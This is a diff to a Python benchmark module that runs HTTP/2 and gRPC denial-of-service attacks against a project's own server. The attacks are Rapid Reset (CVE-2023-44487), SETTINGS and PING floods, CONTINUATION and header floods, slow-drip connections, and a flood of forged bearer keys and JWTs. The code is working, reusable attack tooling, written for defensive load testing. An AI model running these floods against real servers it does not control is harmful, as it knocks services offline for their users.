@@ -1,70 +1,45 @@
-"""Attacks on the port, each from a process of its own: ``python -m benchmarks._attacks NAME ADDRESS [HEADER VALUE]``.
+"""Attacks on the port, each from a process of its own: ``python -m benchmarks._attacks NAME ADDRESS SOURCE [KEY]``.
 
 It prints "ready" when the attack is under way, goes on until its standard input ends, and then prints what it did.
-A connection that the server closes is opened again. All come from 127.0.0.2, which is not the address of other clients.
+A connection that the server closes is opened again, from SOURCE, an address of this machine.
 """
 
 from __future__ import annotations
 
+import base64
 import json
 import os
+import resource
+import secrets
 import select
 import sys
 import time
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
-from itertools import count, cycle
+from itertools import count, cycle, repeat
 
 from hpack import Encoder
 
+from benchmarks._attack_lines import GREETING, Attack, flood, held
 from benchmarks._raw_http2 import (
+    ACK,
     CONTINUATION,
     DATA,
     END_HEADERS,
+    END_STREAM,
     HEADERS,
     PING,
-    PREFACE,
     RST_STREAM,
     SETTINGS,
-    Pairs,
-    RawClient,
     frame,
     grpc_message,
-    headers_of,
 )
 
-SOURCE = "127.0.0.2"
-STALLED, TRICKLING, FLOODING = 500, 200, 4
+STALLED, TRICKLING, STUFFED, FORGING = 500, 200, 300, 50
+MOST_HEADERS = 15 * 1024 * 1024
+"""gRPC ends a connection that sends 16 MiB before it answers the settings."""
 UPLOAD = "/vestibule.v1.MediaService/Upload"
 GET = "/vestibule.v1.SessionService/GetSession"
-BATCH_BYTES = 64 * 1024
-GREETING = PREFACE + frame(SETTINGS, 0, 0)
-
-
-@dataclass(slots=True)
-class Attack:
-    """One attack under way.
-
-    Attributes:
-        sent: Frames, bytes or calls sent, whatever is counted.
-        reopened: Connections that the server closed.
-    """
-
-    address: str
-    more: Pairs = ()
-    sent: int = 0
-    reopened: int = 0
-    clients: list[RawClient] = field(default_factory=list)
-
-    def connect(self, *, greet: bool = False) -> RawClient:
-        """A connection, without a preface unless it is asked for."""
-        return RawClient(self.address, greet=greet, source=SOURCE)
-
-    def headers(self, path: str) -> bytes:
-        """The header block of a call. It refers to no earlier one, so it can be sent again."""
-        encoder = Encoder()
-        encoder.header_table_size = 0
-        return encoder.encode(headers_of(path, self.address, self.more))
+ISSUER, AUDIENCE = "https://issuer.example", "vestibule"
 
 
 def stall(attack: Attack) -> Callable[[], None]:
@@ -73,63 +48,36 @@ def stall(attack: Attack) -> Callable[[], None]:
     open_call = frame(HEADERS, END_HEADERS, 1, attack.headers(GET))
     upload = frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD)) + frame(DATA, 0, 1, grpc_message(b"", claimed=9000))
     openings = cycle((b"", GREETING, GREETING + open_call, GREETING + half, GREETING + upload[:-3]))
-    return _held(attack, STALLED, openings, drip=b"", every_s=1.0)
+    return held(attack, STALLED, openings, drip=b"", every_s=1.0)
 
 
 def trickle(attack: Attack) -> Callable[[], None]:
     """A byte a second: into the messages of an upload, and into the header of a frame."""
     upload = GREETING + frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD))
-    return _held(attack, TRICKLING, cycle((upload, GREETING)), drip=b"\0", every_s=1.0)
-
-
-def _held(attack: Attack, number: int, openings: Iterator[bytes], drip: bytes, every_s: float) -> Callable[[], None]:
-    attack.clients = [_opened(attack, next(openings)) for _ in range(number)]
-    attack.sent = number
-
-    def step() -> None:
-        time.sleep(every_s)
-        for place, client in enumerate(attack.clients):
-            client.sock.settimeout(0)
-            try:
-                closed = any(select.select([client.sock], [], [], 0)) and not client.sock.recv(65536)
-                if not closed and drip:
-                    client.sock.sendall(drip)
-            except OSError:
-                closed = True
-            if closed:
-                client.sock.close()
-                attack.clients[place] = _opened(attack, next(openings))
-                attack.reopened += 1
-
-    return step
-
-
-def _opened(attack: Attack, opening: bytes) -> RawClient:
-    client = attack.connect()
-    if opening:
-        client.sock.sendall(opening)
-    return client
+    return held(attack, TRICKLING, cycle((upload, GREETING)), drip=b"\0", every_s=1.0)
 
 
 def rapid_reset(attack: Attack) -> Callable[[], None]:
-    """Calls that are opened and reset at once (CVE-2023-44487)."""
-    block = attack.headers(GET)
+    """Calls that are opened, some with a request, and reset at once (CVE-2023-44487)."""
+    block, request = attack.headers(GET), grpc_message(b"")
 
     def pieces() -> Iterator[bytes]:
+        yield frame(SETTINGS, ACK, 0)  # otherwise gRPC's core refuses all calls but the first
         for stream in count(1, 2):
-            yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+            data = frame(DATA, 0, stream, request) if stream % 4 == 1 else b""
+            yield frame(HEADERS, END_HEADERS, stream, block) + data + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
 
-    return _flood(attack, pieces)
+    return flood(attack, pieces)
 
 
 def settings_flood(attack: Attack) -> Callable[[], None]:
     """SETTINGS frames, each of which asks for an answer (CVE-2019-9515)."""
-    return _flood(attack, lambda: cycle((frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0"),)))
+    return flood(attack, lambda: cycle((frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0"),)))
 
 
 def ping_flood(attack: Attack) -> Callable[[], None]:
     """PING frames, each of which asks for an answer (CVE-2019-9512)."""
-    return _flood(attack, lambda: cycle((frame(PING, 0, 0, bytes(8)),)))
+    return flood(attack, lambda: cycle((frame(PING, 0, 0, bytes(8)),)))
 
 
 def continuation_flood(attack: Attack) -> Callable[[], None]:
@@ -140,7 +88,7 @@ def continuation_flood(attack: Attack) -> Callable[[], None]:
         yield frame(HEADERS, 0, 1, attack.headers(GET))
         yield from cycle((frame(CONTINUATION, 0, 1, field_line),))
 
-    return _flood(attack, pieces)
+    return flood(attack, pieces)
 
 
 def empty_data_flood(attack: Attack) -> Callable[[], None]:
@@ -150,59 +98,53 @@ def empty_data_flood(attack: Attack) -> Callable[[], None]:
         yield frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD))
         yield from cycle((frame(DATA, 0, 1),))
 
-    return _flood(attack, pieces)
+    return flood(attack, pieces)
 
 
 def connect_flood(attack: Attack) -> Callable[[], None]:
     """Connections that are opened and closed as fast as possible."""
 
     def step() -> None:
-        with attack.connect() as client:
-            client.sock.sendall(GREETING)
-        attack.sent += 1
+        client = attack.connect(GREETING)
+        if client is not None:
+            attack.drop(client)
+            attack.sent += 1
 
     return step
 
 
-def _flood(attack: Attack, pieces: Callable[[], Iterator[bytes]]) -> Callable[[], None]:
-    """Write on some connections as fast as the server reads."""
+def header_flood(attack: Attack) -> Callable[[], None]:
+    """Headers on many connections, which gRPC keeps in memory until the settings are answered, and then no end."""
+    field_line = Encoder().encode([("x-flood", os.urandom(1000).hex())])
+    most_frames = MOST_HEADERS // len(field_line)
 
-    def opened() -> tuple[RawClient, Iterator[bytes], list[bytes]]:
-        client = _opened(attack, GREETING)
-        client.sock.setblocking(False)
-        return client, pieces(), []
+    def pieces() -> Iterator[bytes]:
+        yield frame(HEADERS, 0, 1, attack.headers(GET))
+        yield from repeat(frame(CONTINUATION, 0, 1, field_line), most_frames)
 
-    lines = [opened() for _ in range(FLOODING)]
-
-    def step() -> None:
-        socks = [client.sock for client, _, _ in lines]
-        readable, writable, _ = select.select(socks, socks, [], 0.1)
-        for place, (client, source, rest) in enumerate(lines):
-            try:
-                if client.sock in readable and not client.sock.recv(65536):
-                    raise ConnectionResetError
-                if client.sock in writable:
-                    attack.sent += _write(client, source, rest)
-            except BlockingIOError:
-                continue
-            except OSError:
-                client.sock.close()
-                attack.reopened += 1
-                lines[place] = opened()
-
-    return step
+    return flood(attack, pieces, STUFFED)
 
 
-def _write(client: RawClient, source: Iterator[bytes], rest: list[bytes]) -> int:
-    pieces = 0
-    data = rest.pop() if rest else b""
-    while len(data) < BATCH_BYTES:
-        data += next(source)
-        pieces += 1
-    taken = client.sock.send(data)
-    if taken < len(data):
-        rest.append(data[taken:])
-    return pieces
+def bad_credentials(attack: Attack) -> Callable[[], None]:
+    """Calls with keys and tokens made up at random, each token with another key id."""
+
+    def pieces() -> Iterator[bytes]:
+        yield frame(SETTINGS, ACK, 0)
+        for stream in count(1, 2):
+            forged = f"vst_{secrets.token_hex(8)}_{secrets.token_urlsafe(32)}" if stream % 4 == 1 else forged_token()
+            block = attack.headers(GET, [("authorization", f"Bearer {forged}")])
+            request = frame(DATA, END_STREAM, stream, grpc_message(b""))
+            yield frame(HEADERS, END_HEADERS, stream, block) + request
+
+    return flood(attack, pieces, FORGING, batch_bytes=4096)
+
+
+def forged_token() -> str:
+    """A token like those of an issuer, with a random signature."""
+    head = {"alg": "RS256", "typ": "JWT", "kid": secrets.token_hex(8)}
+    claims = {"iss": ISSUER, "aud": AUDIENCE, "sub": "stranger", "exp": int(time.time()) + 600, "scope": "app"}
+    parts = json.dumps(head).encode(), json.dumps(claims).encode(), secrets.token_bytes(256)
+    return ".".join(base64.urlsafe_b64encode(part).rstrip(b"=").decode() for part in parts)
 
 
 ATTACKS: dict[str, Callable[[Attack], Callable[[], None]]] = {
@@ -214,19 +156,23 @@ ATTACKS: dict[str, Callable[[Attack], Callable[[], None]]] = {
     "continuation flood": continuation_flood,
     "empty data flood": empty_data_flood,
     "connect flood": connect_flood,
+    "header flood": header_flood,
+    "bad credentials": bad_credentials,
 }
 
 
-def main(name: str, address: str, *header: str) -> None:
+def main(name: str, address: str, source: str, key: str = "") -> None:
     os.nice(19)  # in earnest it has a machine of its own; here it must not take the processor from the server
-    attack = Attack(address, [(header[0], header[1])] if header else ())
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
+    attack = Attack(address, source, [("authorization", f"Bearer {key}")] if key else ())
     step = ATTACKS[name](attack)
     print("ready", flush=True)
     began = time.monotonic()
     while not any(select.select([sys.stdin], [], [], 0)):
         step()
-    seconds = time.monotonic() - began
-    print(json.dumps({"sent": attack.sent, "reopened": attack.reopened, "seconds": round(seconds, 1)}), flush=True)
+    did = {"sent": attack.sent, "reopened": attack.reopened, "refused": attack.refused}
+    print(json.dumps(did | {"seconds": round(time.monotonic() - began, 1)}), flush=True)
 
 
 if __name__ == "__main__":
